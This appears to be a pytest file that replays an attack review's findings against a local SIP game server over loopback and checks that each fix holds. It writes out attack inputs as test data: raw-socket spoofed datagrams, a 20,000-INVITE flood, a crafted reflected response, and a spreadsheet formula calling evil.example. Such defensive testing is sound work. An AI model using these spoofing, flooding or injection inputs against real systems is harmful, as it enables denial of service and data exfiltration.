"""The regional server on a hostile network: each finding of the attack review, tried again against a real
``python -m server run`` process over loopback UDP, asserting the fixed behaviour.

Spoofed datagrams are sent through a raw socket (root); those tests skip with the reason when that is not allowed.
"""

from __future__ import annotations

import csv
import io
import os
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from attack_kit import EU, LOOP, NA, OFFER, PASSWORDS, Player, Victim, can_spoof, region, rss_kib, spoof
from gamesdk_sipp_harness import RegionServer, free_udp_ports  # type: ignore[import-not-found]
from server_kit import ANSWER

from gamesdk.sip.digest import Challenge, DigestClient
from gamesdk.sip.message import Request, Response

needs_spoofing = pytest.mark.skipif(not can_spoof(), reason="raw sockets (CAP_NET_RAW) are needed to forge sources")


@pytest.fixture
def eu(tmp_path: Path) -> Iterator[RegionServer]:
    with region(tmp_path) as server:
        yield server


def _addr(server: RegionServer) -> tuple[str, int]:
    return (LOOP, server.port)


def _invite_bytes(target: str, *, from_uri: str, via: str, call_id: str, body: bytes = b"") -> bytes:
    head = [f"INVITE {target} SIP/2.0", f"Via: {via}", "Max-Forwards: 70", f"From: <{from_uri}>;tag=f1",
            f"To: <{target}>", f"Call-ID: {call_id}", "CSeq: 1 INVITE", f"Content-Length: {len(body)}"]
    return ("\r\n".join(head) + "\r\n\r\n").encode() + body


def _logged_in(name: str, server: RegionServer) -> Player:
    player = Player(name, PASSWORDS[name])
    assert player.login(_addr(server)).status == 200
    return player


def _authorized(player: Player, request: Request, server: RegionServer) -> Response:
    """Send ``request``, answer the 407, return the final response."""
    player.send(request, _addr(server))
    challenge = player.final()
    assert challenge.status == 407, challenge
    player.send(player.authorize(request, challenge), _addr(server))
    return player.final()


# -- 1. peers trusted by source address ---------------------------------------------------------------------


@needs_spoofing
def test_1_forged_peer_datagrams_reach_no_player_and_no_address(tmp_path: Path) -> None:
    peer_port = free_udp_ports(1)[0]
    with region(tmp_path, peer_port=peer_port) as server:
        alice = _logged_in("alice", server)
        victim = Victim()
        try:
            # "From na": an INVITE claiming to be eu's own admin, without credentials, to a logged-in player.
            forged = _invite_bytes(f"sip:alice@{EU}", from_uri=f"sip:admin@{EU}", call_id="forged-1",
                                   via=f"SIP/2.0/UDP {LOOP}:{peer_port};branch=z9hG4bKforged1")
            spoof((LOOP, peer_port), _addr(server), forged)
            # "From na": a MESSAGE to an IP-literal URI (before: 11 copies at that port).
            message = (f"MESSAGE sip:x@{LOOP}:{victim.addr[1]} SIP/2.0\r\n"
                       f"Via: SIP/2.0/UDP {LOOP}:{peer_port};branch=z9hG4bKforged2\r\nMax-Forwards: 70\r\n"
                       f"From: <sip:mallory@{NA}>;tag=m\r\nTo: <sip:x@{LOOP}:{victim.addr[1]}>\r\n"
                       f"Call-ID: forged-2\r\nCSeq: 1 MESSAGE\r\nContent-Length: 0\r\n\r\n").encode()
            spoof((LOOP, peer_port), _addr(server), message)
            assert alice.silent(1.0), "a forged peer INVITE reached the player"
            assert victim.collect(quiet_s=1.0) == []
        finally:
            alice.close()
            victim.close()


# -- 2. 407 reflection ------------------------------------------------------------------------------------------


@needs_spoofing
def test_2_spoofed_invite_gets_one_small_407_to_the_victim(eu: RegionServer) -> None:
    victim = Victim()
    try:
        invite = _invite_bytes(f"sip:alice@{EU}", from_uri=f"sip:alice@{EU}", call_id="reflect-407",
                               via=f"SIP/2.0/UDP {LOOP}:{victim.addr[1]};branch=z9hG4bKrefl")
        spoof(victim.addr, _addr(eu), invite)
        got = victim.collect(quiet_s=1.2)  # Timer G with T1 = 50 ms would resend within 1.2 s (before: 11x)
        assert len(got) <= 1
        assert victim.bytes <= 3 * len(invite), (len(invite), victim.bytes)
    finally:
        victim.close()


# -- 3. relay to any host:port -----------------------------------------------------------------------------------


def test_3_no_relay_to_addresses_or_from_strangers(eu: RegionServer) -> None:
    alice = _logged_in("alice", eu)
    dave = _logged_in("dave", eu)
    victim = Victim()
    stranger = Player("alice", "wrong")  # same IP as the players, another port; never logs in
    try:
        # (a) An authenticated player asks for an out-of-dialog request to an IP-literal URI.
        target = f"sip:x@{LOOP}:{victim.addr[1]}"
        refused = _authorized(alice, alice.invite(target), eu)
        assert refused.status == 403
        # (b) A call alice -> dave set up by eu; then strangers try its Call-ID and the players' IP address.
        invite = alice.invite(f"sip:dave@{EU}")
        alice.send(invite, _addr(eu))
        challenge = alice.final()
        alice.send(alice.authorize(invite, challenge), _addr(eu))
        arrived = dave.recv()
        while not (isinstance(arrived, Request) and arrived.method == "INVITE"):
            arrived = dave.recv()
        dave.send(dave.answer(arrived, 200, ANSWER), _addr(eu))
        ok = alice.final()
        assert ok.status == 200
        for source in (stranger, alice):  # the stranger from the players' IP; alice aiming at a third address
            bye = Request("BYE", target, [
                ("Via", source.via()), ("Max-Forwards", "70"), ("From", invite.headers.get("From") or ""),
                ("To", ok.headers.get("To") or ""), ("Call-ID", invite.call_id), ("CSeq", "5 BYE")])
            source.send(bye, _addr(eu))
            assert source.final().status == 403
        assert victim.collect(quiet_s=0.8) == []
        # The call's own parties still reach each other through eu (SIPp sends in-dialog requests to its proxy).
        bye = alice.bye(invite, ok)
        alice.send(bye, _addr(eu))
        got = dave.recv()
        while not isinstance(got, Request):
            got = dave.recv()
        assert got.method == "BYE"
    finally:
        for sock in (alice, dave, stranger, victim):
            sock.close()


# -- 4. blind lockout ------------------------------------------------------------------------------------------


@needs_spoofing
def test_4_forged_failures_do_not_lock_out_the_player(tmp_path: Path) -> None:
    with region(tmp_path, overrides={"auth": {"max_delay_s": 1}}) as server:
        attacker = Player("alice", "guess")
        try:
            # A fresh nonce of the server's, fetched from the attacker's own address.
            probe = attacker.register()
            attacker.send(probe, _addr(server))
            nonce_challenge = attacker.final()
            assert nonce_challenge.status == 401
            for i in range(12):
                for fresh in (False, True):
                    request = attacker.authorize(probe, nonce_challenge) if fresh else probe.copy()
                    if not fresh:
                        request.headers.add("Authorization", f'Digest username="alice", realm="{EU}", nonce="x", '
                                            f'uri="sip:{EU}", response="00", qop=auth, nc=00000001, cnonce="c"')
                    request.headers.set("Via", f"SIP/2.0/UDP 127.0.0.{i + 2}:5999;branch=z9hG4bKlock{i}{fresh}")
                    spoof((f"127.0.0.{i + 2}", 5999), _addr(server), request.to_bytes())
            time.sleep(0.3)  # let the server read them (the assertion below does not depend on timing)
            alice = Player("alice", PASSWORDS["alice"])
            try:
                answer = alice.login(_addr(server))
                assert answer.status == 200, answer.reason  # before: 403 Too many failed attempts
            finally:
                alice.close()
        finally:
            attacker.close()


# -- 8. memory and logs under a flood --------------------------------------------------------------------------


def test_8_memory_and_log_stay_flat_under_20k_unauthenticated_invites(eu: RegionServer) -> None:
    ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ping.bind(("127.0.0.2", 0))
    flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flood.bind((LOOP, 0))
    port = flood.getsockname()[1]
    options = (f"OPTIONS sip:{EU} SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.2:{ping.getsockname()[1]};branch=z9hG4bKp\r\n"
               f"From: <sip:p@{EU}>;tag=p\r\nTo: <sip:{EU}>\r\nCall-ID: ping\r\nCSeq: 1 OPTIONS\r\n"
               "Content-Length: 0\r\n\r\n").encode()

    def drained() -> None:
        # The server answers a ping only after reading what was sent before it: a barrier, not a timer.
        ping.settimeout(10.0)
        ping.sendto(options, _addr(eu))
        ping.recvfrom(65535)

    try:
        drained()
        before = rss_kib(eu.pid)
        log_before = eu.log().count("\n")
        deadline = time.monotonic() + 120
        for batch in range(40):
            for i in range(500):
                n = batch * 500 + i
                flood.sendto(_invite_bytes(f"sip:alice@{EU}", from_uri=f"sip:x{n}@{EU}", call_id=f"flood-{n}",
                                           via=f"SIP/2.0/UDP {LOOP}:{port};branch=z9hG4bKfl{n}", body=OFFER),
                             _addr(eu))
            drained()
            assert time.monotonic() < deadline
        grown = rss_kib(eu.pid) - before
        lines = eu.log().count("\n") - log_before
        # Before: 40 -> 131 MiB, still held after the transactions ended, and 20k log lines.
        assert grown < 12 * 1024, f"RSS grew by {grown} KiB"
        assert lines < 500, f"{lines} log lines"
    finally:
        ping.close()
        flood.close()


# -- 9. response reflector --------------------------------------------------------------------------------------


def test_9_a_copied_branch_does_not_aim_stray_responses(eu: RegionServer) -> None:
    alice = _logged_in("alice", eu)
    dave = _logged_in("dave", eu)
    victim = Victim()
    try:
        invite = alice.invite(f"sip:dave@{EU}")
        alice.send(invite, _addr(eu))
        alice.send(alice.authorize(invite, alice.final()), _addr(eu))
        arrived = dave.recv()
        while not (isinstance(arrived, Request) and arrived.method == "INVITE"):
            arrived = dave.recv()
        ours = arrived.headers.get_all("Via")[0]  # eu's Via, with its branch, as every forwarded request shows it
        chosen = b"x" * 828
        stray = (f"SIP/2.0 200 OK\r\nVia: {ours}\r\nVia: SIP/2.0/UDP {LOOP}:{victim.addr[1]};branch=z9hG4bKv\r\n"
                 f"From: <sip:a@{EU}>;tag=1\r\nTo: <sip:b@{EU}>;tag=2\r\nCall-ID: stray\r\nCSeq: 1 OPTIONS\r\n"
                 f"Content-Type: text/plain\r\nContent-Length: {len(chosen)}\r\n\r\n").encode() + chosen
        dave.send(stray, _addr(eu))
        assert victim.collect(quiet_s=0.8) == []  # before: 828 chosen bytes at the chosen port
    finally:
        for sock in (alice, dave, victim):
            sock.close()


# -- 10. CSV formula injection ----------------------------------------------------------------------------------


def test_10_billing_export_escapes_formula_cells(tmp_path: Path) -> None:
    from server.billing import SqliteBillingStore
    from server.policy import AppSession, MediaComponent, PolicyConfig, PolicyServer, Side, open_region_db

    config = PolicyConfig.from_mapping({
        "access_networks": [{"name": "eu-fiber", "prefixes": ["127.0.0.0/8"], "uplink_kbps": 1000,
                             "downlink_kbps": 1000, "rtt_ms": 5}],
        "classes": [{"name": "action"}],
        "tariff": {"currency": "EUR", "action": {"per_minute": 0.02}},
    })
    with region(tmp_path) as server:
        pass  # the server made the region database
    conn = open_region_db(tmp_path / "eu.sqlite3")
    policy = PolicyServer(config, token_factory=lambda: "t0k3n", region="eu",
                          billing=SqliteBillingStore(conn, config.tariff))
    # What a caller controls ends up in the record: its Call-ID, tags and the names.
    session = AppSession(
        call_id='=WEBSERVICE("http://evil.example/")', from_tag="+1", to_tag="-2", side=Side.ORIG,
        player="sip:@SUM(1)@eu.gamesdk.test", peer="@x", player_ip="127.0.0.1",
        components=(MediaComponent(uplink_kbps=64, downlink_kbps=64, max_latency_ms=100, qos_class="action"),),
        game_format="pong/1", qos_text="lat=100")
    policy.final(session, 1_700_000_000.0)
    policy.activate(session.key, 1_700_000_001.0, 90)
    conn.close()
    done = server.cli("billing", "export", "--csv", "-")
    assert done.returncode == 0, done.stderr
    assert "WEBSERVICE" in done.stdout
    for row in csv.reader(io.StringIO(done.stdout)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row


# -- 11. MD5 only when configured ---------------------------------------------------------------------------------


def test_11_only_sha256_is_challenged_by_default(tmp_path: Path) -> None:
    with region(tmp_path, overrides={"auth": {"digest_algorithms": ["SHA-256"]}}) as server:
        alice = Player("alice", PASSWORDS["alice"])
        try:
            request = alice.register()
            alice.send(request, _addr(server))
            challenge = alice.final()
            algorithms = [Challenge.parse_untrusted(v).algorithm for v in challenge.headers.get_all("WWW-Authenticate")]
            assert algorithms == ["SHA-256"]
            # A client that strips the SHA-256 challenge and answers with MD5 is refused, and told why.
            md5 = DigestClient("alice", PASSWORDS["alice"], alice.ids.cnonce, algorithms=("MD5",))
            sha = Challenge.parse_untrusted(challenge.headers.get_all("WWW-Authenticate")[0])
            forged = Challenge(realm=sha.realm, nonce=sha.nonce, algorithm="MD5")
            again = request.copy()
            again.headers.set("Via", alice.via())
            again.headers.set("CSeq", "2 REGISTER")
            again.headers.add("Authorization", md5.answer(forged, method="REGISTER", uri=request.uri).to_header_value())
            alice.send(again, _addr(server))
            refused = alice.final()
            assert refused.status == 403 and "MD5" in refused.reason
        finally:
            alice.close()
    checked = subprocess.run([*server_command_prefix(), "check-config", "--config", str(server.config_path)],
                             capture_output=True, text=True, timeout=30, check=False)
    assert "MD5" in checked.stdout + checked.stderr


def server_command_prefix() -> list[str]:
    import sys

    return [sys.executable, "-m", "server"]


# -- SIPp-style REGISTER: the server named by its address ----------------------------------------------------------


def test_register_naming_the_server_by_its_listen_address(eu: RegionServer) -> None:
    here = f"sip:{LOOP}:{eu.port}"
    for request_uri, digest_uri in ((f"sip:{EU}", here), (here, here)):
        alice = Player("alice", PASSWORDS["alice"])
        try:
            request = alice.register()
            request = Request("REGISTER", request_uri, request.headers)
            alice.send(request, _addr(eu))
            challenge = alice.final()
            assert challenge.status == 401, challenge.reason
            creds = alice.digest.authorize(challenge.headers.get_all("WWW-Authenticate"), method="REGISTER",
                                           uri=digest_uri)
            again = request.copy()
            again.headers.set("Via", alice.via())
            again.headers.set("CSeq", f"{request.cseq.seq + 1} REGISTER")
            again.headers.add("Authorization", creds.to_header_value())
            alice.send(again, _addr(eu))
            assert alice.final().status == 200
        finally:
            alice.close()
    # A digest uri naming some other resource is still refused, with the real reason in the response.
    alice = Player("alice", PASSWORDS["alice"])
    try:
        request = alice.register()
        alice.send(request, _addr(eu))
        challenge = alice.final()
        creds = alice.digest.authorize(challenge.headers.get_all("WWW-Authenticate"), method="REGISTER",
                                       uri=f"sip:{NA}")
        again = request.copy()
        again.headers.set("Via", alice.via())
        again.headers.set("CSeq", "2 REGISTER")
        again.headers.add("Authorization", creds.to_header_value())
        alice.send(again, _addr(eu))
        refused = alice.final()
        assert refused.status == 403 and "digest uri" in refused.reason.lower()
    finally:
        alice.close()
    assert os.getpid() > 0
